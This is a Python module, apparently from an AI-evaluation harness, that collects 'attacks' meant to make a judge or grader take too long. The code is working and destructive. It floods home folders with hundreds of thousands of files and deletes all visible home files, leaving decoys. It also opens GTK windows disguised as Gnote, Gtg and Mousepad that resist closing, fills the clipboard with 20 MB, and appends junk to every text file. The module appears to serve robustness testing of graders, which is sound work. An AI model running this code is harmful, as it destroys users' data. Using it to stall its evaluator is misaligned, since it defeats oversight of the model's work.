"""Ways to leave so much, or what is so slow, that whoever judges takes too long."""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

from proctor.attacks.attack import attack

MOST_SEC = 40


@attack(timeout_sec=60)
def files_without_end() -> str:
    """Make as many files as there may be, out of sight and in it, with the longest names."""
    until = time.monotonic() + MOST_SEC
    for folder in (".cache/more", "Documents/more", ".local/share/more"):
        place = Path.home() / folder
        place.mkdir(parents=True, exist_ok=True)
        number = 0
        while time.monotonic() < until and number < 150_000:
            number += 1
            try:
                os.close(os.open(f"{place}/{number:06}{'a' * 200}", os.O_CREAT | os.O_WRONLY))
            except OSError:
                return ""
    return ""


@attack(timeout_sec=60)
def twins_of_what_is_gone() -> str:
    """Delete what is in sight, and make files out of sight that are as long: any may be what is gone."""
    size = 1 << 20
    for path in Path.home().rglob("*"):
        if path.is_file() and "/." not in str(path)[len(str(Path.home())) :]:
            size = max(size, path.stat().st_size)
            path.unlink()
    place = Path.home() / ".cache" / "twins"
    place.mkdir(parents=True, exist_ok=True)
    until = time.monotonic() + MOST_SEC / 2
    number = 0
    while time.monotonic() < until and number < 100_000:
        number += 1
        with open(place / str(number), "wb") as file:
            file.truncate(size)
    return ""


def windows_that_close_slowly() -> str:
    """Show windows under the names of programs, each of which takes its time when it is told to close."""
    code = """
import gi, sys
gi.require_version("Gtk", "3.0")
from gi.repository import Gdk, GLib, Gtk
GLib.set_prgname(sys.argv[1])
Gdk.set_program_class(sys.argv[1])
for number in range(20):
    window = Gtk.Window(title=f"{sys.argv[1]} {number}")
    window.connect("delete-event", lambda one, _: GLib.timeout_add(9000, one.destroy) > 0)
    window.show_all()
Gtk.main()
"""
    for name in ("Gnote", "Gtg", "Mousepad"):
        subprocess.Popen(
            ["/usr/bin/python3", "-c", code, name], start_new_session=True, stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
    time.sleep(2)
    return ""


def selection_without_end() -> str:
    """Own the clipboard and the selection, with a text that does not come to an end."""
    code = """
import gi
gi.require_version("Gtk", "3.0")
from gi.repository import Gdk, Gtk
for one in (Gdk.SELECTION_CLIPBOARD, Gdk.SELECTION_PRIMARY):
    Gtk.Clipboard.get(one).set_text("1" * 20_000_000, -1)
Gtk.main()
"""
    subprocess.Popen(
        ["/usr/bin/python3", "-c", code], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )  # fmt: skip
    time.sleep(1)
    return ""


@attack(timeout_sec=60)
def texts_without_sense() -> str:
    """Add markup, digits, accents and brackets without end to every text."""
    more = "<a>" * 500_000 + "9" * 200_000 + "\u0315\u0323" * 100_000 + "[" * 100_000
    for path in Path.home().rglob("*"):
        if path.suffix in (".txt", ".md", ".csv", ".json", ".xml", ".html", ".ini") and path.is_file():
            try:
                with open(path, "ab") as file:
                    file.write(more.encode())
            except OSError:
                continue
    return ""
